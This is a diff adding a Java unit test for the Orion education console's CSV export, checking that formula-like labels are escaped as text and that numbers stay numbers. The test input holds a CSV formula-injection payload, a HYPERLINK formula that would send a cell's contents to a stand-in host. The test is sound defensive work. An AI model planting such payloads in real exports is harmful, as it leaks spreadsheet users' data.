@@ -1,0 +1,85 @@
+package fr.education.orion.console;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/**
+ * A console's CSV export opened in a spreadsheet: a label of an imported file that reads as a
+ * formula stays text, the numbers Orion writes stay numbers.
+ */
+class ExportTest {
+
+  @Test
+  void aLabelThatLooksLikeAFormulaIsExportedAsTextAndNumbersStayNumbers() throws IOException {
+    LigneFormation ligne =
+        ligne("=HYPERLINK(\"https://exemple.invalid/?\"&A1,\"Voir\")", "@SOMME(A1:A9)");
+    List<Colonne> colonnes =
+        Console.FORMATIONS.colonnes().stream()
+            .filter(
+                c ->
+                    List.of(
+                            "libelleFormation",
+                            "libelleDispositif",
+                            "effectifEntree",
+                            "tauxPression")
+                        .contains(c.champ()))
+            .toList();
+
+    ByteArrayOutputStream sortie = new ByteArrayOutputStream();
+    Export.csv(sortie, colonnes, chaque -> chaque.accept(ligne));
+    List<String> lignes = sortie.toString(StandardCharsets.UTF_8).lines().toList();
+
+    assertThat(lignes.get(1))
+        .isEqualTo(
+            "\"'=HYPERLINK(\"\"https://exemple.invalid/?\"\"&A1,\"\"Voir\"\")\";'@SOMME(A1:A9);-12;-0,5");
+  }
+
+  private static LigneFormation ligne(String libelleFormation, String libelleDispositif) {
+    return new LigneFormation(
+        "2020",
+        "40022105",
+        "247",
+        libelleFormation,
+        libelleDispositif,
+        "400",
+        "BAC PRO",
+        "221",
+        "Agro-alimentaire",
+        null,
+        null,
+        false,
+        false,
+        false,
+        false,
+        1,
+        null,
+        null,
+        null,
+        // Negative figures only to show that a number is never taken for a formula.
+        -12,
+        null,
+        null,
+        null,
+        null,
+        new BigDecimal("-0.50"),
+        null,
+        null,
+        null,
+        null,
+        null,
+        "2021_2022",
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null);
+  }
+}
